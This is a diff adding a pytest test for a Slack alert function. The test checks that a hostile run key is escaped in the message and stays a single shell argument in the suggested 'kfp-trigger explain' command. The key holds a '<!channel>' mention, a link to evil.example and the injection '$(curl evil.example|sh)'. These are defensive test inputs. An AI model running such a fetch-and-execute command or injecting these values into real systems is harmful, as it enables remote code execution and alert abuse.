@@ -102,3 +102,22 @@ def test_a_succeeded_run_alerts_nobody(
     reconcile.reconcile(services)
     assert receiver[0].received == []
     assert pull(subscription, 1, wait=2) == []
+
+
+def test_event_text_in_an_alert_mentions_nobody_and_its_command_runs_only_explain(
+    services: Services, receiver: tuple[Receiver, str]
+) -> None:
+    """A run key is built from event text: in Slack it is shown, never a `<!channel>` mention or
+    a link; in the printed command it is one shell word, whatever it holds."""
+    from functions.service.alerts import refused
+
+    hook, url = receiver
+    hostile = "r/<!channel> & <https://evil.example|click>/$(curl evil.example|sh)#1"
+    refused(replace(services, alerts=(WebhookSink(url),)), "r", hostile, "bucket refused")
+    (message,) = hook.received
+    assert "<!channel>" not in message["text"]
+    assert "&lt;!channel&gt; &amp; &lt;https://evil.example|click&gt;" in message["text"]
+    command = (
+        message["text"].split("→ ", 1)[1].replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&")
+    )
+    assert shlex.split(command) == ["kfp-trigger", "explain", hostile]
